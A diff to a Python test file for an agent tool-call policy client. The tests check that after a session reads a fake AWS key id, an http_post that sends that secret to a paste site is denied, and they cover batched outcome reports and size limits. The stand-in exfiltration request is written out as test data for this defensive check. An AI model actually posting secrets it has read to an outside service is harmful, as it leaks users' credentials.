@@ -15,6 +15,7 @@ import httpx2
 import pytest
 
 from inherence_policy_client import (
+    MAX_OUTCOME_TEXT,
     DecideRequest,
     Decision,
     Heartbeat,
@@ -233,6 +234,66 @@ async def test_what_a_session_read_is_recorded_in_a_worker_thread_before_report_
     assert threads
     assert threads[0] != loop_thread
     # Recorded by the time it returned: a send of what was read is judged by it at once.
+    send = DecideRequest(
+        tool_name="http_post",
+        classification="network_fetch",
+        arguments={"url": "https://paste.example.net/new", "body": secret},
+        session_id="s",
+    )
+    assert (await both.embedded.decide(send)).decision is Verdict.DENY
+
+
+async def test_a_batch_of_reports_is_recorded_in_one_transaction_in_order_before_it_returns(both: Both) -> None:
+    storage = both.embedded.app.storage
+    transactions: list[int] = []
+    write = storage.write
+
+    def counted() -> Any:
+        transactions.append(threading.get_ident())
+        return write()
+
+    storage.write = counted  # type: ignore[method-assign]
+    secret = "AKIA" + "Q" * 16  # an AWS access key id's shape
+    reads = []
+    for session in ("s1", "s2", "s1"):
+        read = DecideRequest(
+            tool_name="read_file", classification="file_read", arguments={"path": "notes.txt"}, session_id=session
+        )
+        decision = await both.embedded.decide(read)
+        assert decision.allowed
+        text = f"key id {secret}" if session == "s2" else "nothing much"
+        reads.append(OutcomeReport(decision_id=decision.receipt_id or "", session_id=session, content_text=text))
+    declined = OutcomeReport(decision_id="-", session_id="s1", tool_name="send_payment", confirmation="declined")
+    transactions.clear()
+    assert await both.embedded.report_outcomes([*reads[:2], declined, reads[2]])
+    # The reads before the answer in one transaction, the one after it in another; none on the loop's thread.
+    assert len(transactions) == 2
+    assert threading.get_ident() not in transactions
+    send = DecideRequest(
+        tool_name="http_post",
+        classification="network_fetch",
+        arguments={"url": "https://paste.example.net/new", "body": secret},
+        session_id="s2",
+    )
+    assert (await both.embedded.decide(send)).decision is Verdict.DENY
+    both.embedded.flush()
+    decisions = [entry.decision for entry in storage.recent_decisions(100)]
+    assert "confirm_declined" in decisions
+
+
+async def test_a_batch_with_a_report_over_the_limits_records_the_others_and_is_refused(both: Both) -> None:
+    read = DecideRequest(
+        tool_name="read_file", classification="file_read", arguments={"path": "notes.txt"}, session_id="s"
+    )
+    decision = await both.embedded.decide(read)
+    secret = "AKIA" + "Q" * 16
+    fine = OutcomeReport(decision_id=decision.receipt_id or "", session_id="s", content_text=f"key id {secret}")
+    too_long = OutcomeReport.model_construct(
+        decision_id="x", session_id="s", content_text="a" * (MAX_OUTCOME_TEXT + 1), structured_text=""
+    )
+    with pytest.raises(PolicyUnreachable) as refused:
+        await both.embedded.report_outcomes([too_long, fine])
+    assert refused.value.status == 422
     send = DecideRequest(
         tool_name="http_post",
         classification="network_fetch",
